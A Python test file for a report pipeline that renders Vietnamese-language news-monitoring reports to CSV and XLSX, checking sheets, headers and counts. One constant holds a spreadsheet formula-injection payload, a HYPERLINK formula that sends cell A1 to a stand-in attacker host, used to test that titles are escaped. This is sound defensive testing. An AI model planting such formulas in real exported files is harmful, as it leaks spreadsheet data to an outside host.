"""pipeline.report.render.sheets: the CSV files and the XLSX workbook read back."""

from __future__ import annotations

import copy
import csv
import io

from openpyxl import load_workbook

from pipeline.report.content import ReportContent, build_content
from pipeline.report.render.sheets import items_csv, render_xlsx, tables_csv
from pipeline.settings import DATA_DIR, ReportSettings
from pipeline.taxonomy import load_taxonomy


def test_csv_holds_the_counted_items_and_every_table(content: ReportContent) -> None:
    items, tables = items_csv(content), tables_csv(content)
    rows = list(csv.DictReader(io.StringIO(items.decode("utf-8"))))
    assert len(rows) == 300 and {r["id"] for r in rows} == {i["id"] for i in content.snapshot.items}
    cells = list(csv.DictReader(io.StringIO(tables.decode("utf-8"))))
    keys = {c["table"] for c in cells}
    assert {"totals", "sources", "topics", "tones", "flagged", "source_list"} <= keys
    collected = next(
        c for c in cells if c["table"] == "totals" and c["row"] == "1" and c["column"] == "Kỳ này"
    )
    assert int(collected["value"]) == content.snapshot.summary.totals["collected"]


def test_xlsx_has_an_items_sheet_and_one_sheet_per_table(content: ReportContent) -> None:
    workbook = load_workbook(io.BytesIO(render_xlsx(content)))
    assert workbook.sheetnames[0] == "Danh sách tin"
    assert {"Số liệu chung", "Theo cơ quan báo chí", "Theo chủ đề", "Tin tích cực"} <= set(
        workbook.sheetnames
    )
    assert workbook["Danh sách tin"].max_row == 301
    totals = list(workbook["Số liệu chung"].iter_rows(values_only=True))
    assert totals[0][:2] == ("Chỉ tiêu", "Kỳ này")
    assert totals[2][1] == content.snapshot.summary.totals["hai_phong"]


HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Xem")'


def _hostile(content: ReportContent) -> ReportContent:
    """The same report with every item titled like a formula (titles reach the tables too)."""
    snap = copy.deepcopy(content.snapshot)
    for item in snap.items:
        item["title"] = HOSTILE
    return build_content(snap, load_taxonomy(DATA_DIR / "taxonomy.yaml"), ReportSettings())


def test_no_title_becomes_a_formula_in_the_workbook(content: ReportContent) -> None:
    workbook = load_workbook(io.BytesIO(render_xlsx(_hostile(content))))
    cells = [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    titles = [c for c in cells if isinstance(c.value, str) and HOSTILE in c.value]
    assert len(titles) > 300 and all(c.value == "'" + HOSTILE and c.data_type == "s" for c in titles)


def test_no_title_starts_like_a_formula_in_the_csv_files(content: ReportContent) -> None:
    hostile = _hostile(content)
    for data in (items_csv(hostile), tables_csv(hostile)):
        values = [v for row in csv.reader(io.StringIO(data.decode("utf-8"))) for v in row]
        assert HOSTILE not in values and "'" + HOSTILE in values


def test_the_items_sheet_reads_in_vietnamese(content: ReportContent) -> None:
    workbook = load_workbook(io.BytesIO(render_xlsx(content)), read_only=True)
    rows = list(workbook["Danh sách tin"].iter_rows(values_only=True))
    header = rows[0]
    assert header[:4] == ("Mã bài", "Thời gian đăng", "Cơ quan báo chí", "Tiêu đề")
    assert "Cần phản hồi" in header and "needs_response" not in header
    column = {name: i for i, name in enumerate(header)}
    values = {name: {row[i] for row in rows[1:]} for name, i in column.items()}
    assert values["Cần phản hồi"] <= {"Có", "Không"}
    assert not values["Phạm vi"] & {"an-lao", "hai-phong", "incidental", "other"}
    published = next(v for v in values["Thời gian đăng"] if v)
    assert len(published) == 16 and published[2] == "/" and published[5] == "/"
